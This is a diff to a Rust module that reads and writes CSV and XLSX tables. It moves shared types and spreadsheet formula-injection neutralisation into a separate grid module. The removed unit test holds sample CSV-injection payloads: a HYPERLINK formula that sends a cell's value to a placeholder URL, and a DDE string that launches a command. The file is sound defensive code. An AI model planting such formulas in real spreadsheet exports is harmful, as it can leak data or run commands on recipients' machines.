@@ -2,24 +2,11 @@
 //! the first sheet of an XLSX workbook, and written back as XLSX. Importers work on this
 //! shape, so every format gets the same checks.
 
+use super::grid::{as_typed, neutralised, number_text};
+pub use super::grid::{Table, TableRow};
 use super::limits::{self, Limit};
 use super::text_file::{decode, detect_delimiter};
 use crate::error::{Error, Result};
-
-pub struct Table {
-    pub headers: Vec<String>,
-    pub rows: Vec<TableRow>,
-    /// `utf-8`, `utf-8-bom`, `windows-1252` or `xlsx`.
-    pub encoding: String,
-    /// `;`, `,`, `tab`, or empty for XLSX.
-    pub delimiter: String,
-}
-
-pub struct TableRow {
-    /// The row's line in the file (CSV) or its row number (XLSX); 1 is the header.
-    pub line: u32,
-    pub cells: Vec<String>,
-}
 
 const ZIP_MAGIC: &[u8] = b"PK\x03\x04";
 
@@ -149,63 +136,6 @@ fn malformed(e: csv::Error) -> Error {
     }
 }
 
-/// The first characters that make a spreadsheet read a CSV cell as a formula (OWASP's
-/// CSV injection advice, and NUL from the ASVS): `=HYPERLINK(…)` in a supplier name
-/// received from outside must not come back out of an export ready to run.
-const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];
-
-/// A cell as it is written to CSV: one that a spreadsheet would run as a formula gets a
-/// leading `'`, which spreadsheets show as text. A plain number (`-3.7`, `+31`) holds no
-/// formula and stays as it is, so that coordinates and amounts stay numbers.
-pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
-    match cell.chars().next() {
-        Some(c) if FORMULA_STARTS.contains(&c) && !is_plain_number(cell) => {
-            std::borrow::Cow::Owned(format!("'{cell}"))
-        }
-        _ => std::borrow::Cow::Borrowed(cell),
-    }
-}
-
-/// A cell as read in: a neutralised cell (see [`neutralised`]) reads back as typed.
-pub fn as_typed(cell: String) -> String {
-    match cell.strip_prefix('\'') {
-        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest.to_string(),
-        _ => cell,
-    }
-}
-
-/// An optional sign, digits, an optional fraction and an optional exponent, nothing else.
-fn is_plain_number(s: &str) -> bool {
-    let b = s.as_bytes();
-    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
-    let digits = |i: &mut usize| {
-        let start = *i;
-        while *i < b.len() && b[*i].is_ascii_digit() {
-            *i += 1;
-        }
-        *i > start
-    };
-    if !digits(&mut i) {
-        return false;
-    }
-    if b.get(i) == Some(&b'.') {
-        i += 1;
-        if !digits(&mut i) {
-            return false;
-        }
-    }
-    if matches!(b.get(i), Some(b'e' | b'E')) {
-        i += 1;
-        if matches!(b.get(i), Some(b'+' | b'-')) {
-            i += 1;
-        }
-        if !digits(&mut i) {
-            return false;
-        }
-    }
-    i == b.len()
-}
-
 /// Rows as CSV (UTF-8, comma-separated) under a header row; every cell neutralised.
 pub fn write_csv(headers: &[&str], rows: &[Vec<String>]) -> Result<String> {
     let io = |e: csv::Error| Error::Io {
@@ -295,39 +225,4 @@ pub fn write_xlsx(sheet: &str, headers: &[&str], rows: &[Vec<String>]) -> Result
     ws.set_freeze_panes(1, 0).map_err(fail)?;
     ws.autofit();
     book.save_to_buffer().map_err(fail)
-}
-
-/// A number as a person would type it and as the XLSX reader gives it back: whole
-/// numbers without ".0".
-pub(super) fn number_text(n: f64) -> String {
-    if n.fract() == 0.0 && n.abs() < 1e15 {
-        format!("{}", n as i64)
-    } else {
-        format!("{n}")
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn formula_cells_are_neutralised_and_read_back_as_typed() {
-        for cell in [
-            "=HYPERLINK(\"http://x\"&B2,\"klik\")",
-            "+cmd|' /C calc'!A0",
-            "-2+3",
-            "@SUM(A1)",
-            "\tx",
-            "\rx",
-        ] {
-            let out = neutralised(cell);
-            assert_eq!(out, format!("'{cell}"), "{cell}");
-            assert_eq!(as_typed(out.into_owned()), cell);
-        }
-        for plain in ["-3.7", "+31201234567", "12", "1e5", "Fabriek", "'quote", ""] {
-            assert_eq!(neutralised(plain), plain, "{plain}");
-            assert_eq!(as_typed(plain.to_string()), plain);
-        }
-    }
 }
